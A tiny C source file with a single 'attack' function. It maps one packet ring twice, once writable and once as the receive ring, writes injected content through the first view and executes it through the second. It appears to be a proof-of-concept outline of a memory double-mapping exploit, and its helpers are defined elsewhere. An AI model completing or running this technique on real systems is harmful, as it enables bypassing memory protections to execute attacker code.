/* SPDX-License-Identifier: Apache-2.0 */
/* Two views of one ring. */
#include "packet-ring.h"

void attack(void)
{
	int fd = new_packet_ring();
	char *writable = setup_map(raw_map(RW, MAP_SHARED, fd));
	char *page = ring_rx(MAP_SHARED, fd);

	inject(writable + SIZE / 2);
	run(page + SIZE / 2);
}
